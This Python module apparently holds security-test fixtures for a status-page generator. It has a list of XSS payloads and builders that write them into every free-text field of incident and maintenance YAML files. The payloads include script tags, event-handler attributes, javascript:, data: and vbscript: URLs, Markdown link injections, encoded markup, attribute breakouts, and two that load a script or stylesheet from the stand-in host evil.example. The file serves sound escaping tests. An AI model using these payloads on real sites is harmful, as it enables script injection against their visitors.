"""The XSS vector list and hostile incident files that carry a text in every free-text field.

VECTORS is what an attacker (or a careless paste) puts in a status page: script tags, event
attributes, SVG, javascript:/data:/vbscript: URLs bare and in Markdown links and images, entities that
decode to markup, RTL overrides, element-closing sequences and attribute-breaking quotes. LINK_VECTORS
are the hostile values the one URL field (action item `link`) accepts: it must start with https://,
http:// or mailto:, so its attacks break out of the attribute instead.
"""

from __future__ import annotations

from collections.abc import Mapping
from dataclasses import dataclass
from datetime import datetime, timedelta

from tests.security.project import quoted

VECTORS: tuple[str, ...] = (
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(2)>",
    "<svg onload=alert(3)>",
    "<svg><script>alert(4)</script></svg>",
    "<svg><a xlink:href=\"javascript:alert(5)\"><text y=\"20\">x</text></a></svg>",
    "<svg><animate onbegin=alert(6) attributeName=x dur=1s>",
    "<body onload=alert(7)>",
    "<a href=\"javascript:alert(8)\">link</a>",
    "<a href=\"jav&#x09;ascript:alert(9)\">tab in scheme</a>",
    "<iframe src=\"javascript:alert(10)\"></iframe>",
    "<object data=\"data:text/html,<script>alert(11)</script>\"></object>",
    "<form action=javascript:alert(12)><button>go</button></form>",
    "<button formaction=javascript:alert(13)>go</button>",
    "<meta http-equiv=refresh content=\"0;url=javascript:alert(14)\">",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(15)>",
    "javascript:alert(16)",
    "JaVaScRiPt:alert(17)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxOCk8L3NjcmlwdD4=",
    "vbscript:msgbox(19)",
    "[click](javascript:alert(20))",
    "[click](JAVASCRIPT:alert(21) \"title\")",
    "![image](javascript:alert(22))",
    "[data](data:text/html,<script>alert(23)</script>)",
    "[vb](vbscript:msgbox(24))",
    "<javascript:alert(25)>",
    "[ref][r]\n\n[r]: javascript:alert(26)",
    "&lt;script&gt;alert(27)&lt;/script&gt;",
    "&#60;img src=x onerror=alert(28)&#62;",
    "&#x3C;svg onload=alert(29)&#x3E;",
    "&amp;lt;script&amp;gt;alert(30)",
    "\u202egnp.exe\u202c invoice \u2066<b onmouseover=alert(31)>isolate\u2069",
    "</title><script>alert(32)</script>",
    "</script><script>alert(33)</script>",
    "</textarea></style></noscript><img src=x onerror=alert(34)>",
    "\" onmouseover=\"alert(35)\" x=\"",
    "' onfocus='alert(36)' autofocus='",
    "\"><img src=x onerror=alert(37)>",
    "'><svg onload=alert(38)>",
    "]]><script>alert(39)</script><![CDATA[",
    "<!--<img src=\"--><img src=x onerror=alert(40)//\">",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<div style=\"background:url(javascript:alert(41))\">styled</div>",
    "{{ 7*7 }} {% raw %} ${alert(42)} #{alert(43)}",
)
LINK_VECTORS: tuple[str, ...] = (
    "https://evil.example/\"><script>alert(101)</script>",
    "https://evil.example/' onmouseover='alert(102)",
    "http://evil.example/?q=<img src=x onerror=alert(103)>",
    "mailto:a@example.com\"><svg onload=alert(104)>",
)

# Every free-text field of an incident file; `hostile_incident` puts values[name] into each.
FIELDS: tuple[str, ...] = (
    "title", "message", "tag", "reason", "incident_commander", "communications_lead", "technical_specialist",
    "service_desk", "summary", "impact", "root_cause", "contributing_factor", "trigger", "detection",
    "resolution", "went_well", "went_wrong", "lucky", "lessons", "timeline_text", "action_title",
    "action_owner", "action_priority", "author",
)


@dataclass(frozen=True)
class Stamp:
    """The timestamps of one hostile incident, all before the build time."""

    start: datetime

    def at(self, minutes: int) -> str:
        return (self.start + timedelta(minutes=minutes)).strftime("%Y-%m-%dT%H:%M:%SZ")


def hostile_incident(values: Mapping[str, str], link: str, start: datetime, component: str, *,
                     resolved: bool = True) -> str:
    """An incident file (YAML) with `values[field]` in every free-text field and `link` as the action
    item's link; open (no resolving update, so it is announced on every page) unless `resolved`."""
    t = Stamp(start)
    v = {name: quoted(value) for name, value in values.items()}
    final = f"""\
  - at: {t.at(60)}
    status: resolved
    message: {v["message"]}
    corrected:
      at: {t.at(120)}
      reason: {v["reason"]}
""" if resolved else ""
    return f"""\
title: {v["title"]}
impact: major
components:
  {component}: partial_outage
started_at: {t.at(0)}
detected_at: {t.at(5)}
roles:
  incident_commander: {v["incident_commander"]}
  communications_lead: {v["communications_lead"]}
  technical_specialists: [{v["technical_specialist"]}]
  service_desk: {v["service_desk"]}
tags: [{v["tag"]}]
updates:
  - at: {t.at(10)}
    status: investigating
    message: {v["message"]}
{final}review:
  summary: {v["summary"]}
  impact: {v["impact"]}
  root_cause: {v["root_cause"]}
  contributing_factors: [{v["contributing_factor"]}]
  trigger: {v["trigger"]}
  detection: {v["detection"]}
  resolution: {v["resolution"]}
  went_well: [{v["went_well"]}]
  went_wrong: [{v["went_wrong"]}]
  lucky: [{v["lucky"]}]
  lessons: {v["lessons"]}
  timeline:
    - at: {t.at(2)}
      text: {v["timeline_text"]}
  action_items:
    - title: {v["action_title"]}
      owner: {v["action_owner"]}
      type: prevent
      priority: {v["action_priority"]}
      due: {(start + timedelta(days=7)).date().isoformat()}
      link: {quoted(link)}
  authors: [{v["author"]}]
"""


def hostile_maintenance(title: str, message: str, window: datetime, component: str) -> str:
    """A one-hour maintenance window from `window` (announced three days before) with a hostile title
    and message; it lands in maintenance.ics. Its file stem must start with the window's date."""
    t = Stamp(window)
    return f"""\
title: {quoted(title)}
kind: maintenance
impact: minor
components:
  {component}: under_maintenance
scheduled_start: {t.at(0)}
scheduled_end: {t.at(60)}
updates:
  - at: {t.at(-3 * 24 * 60)}
    status: scheduled
    message: {quoted(message)}
"""
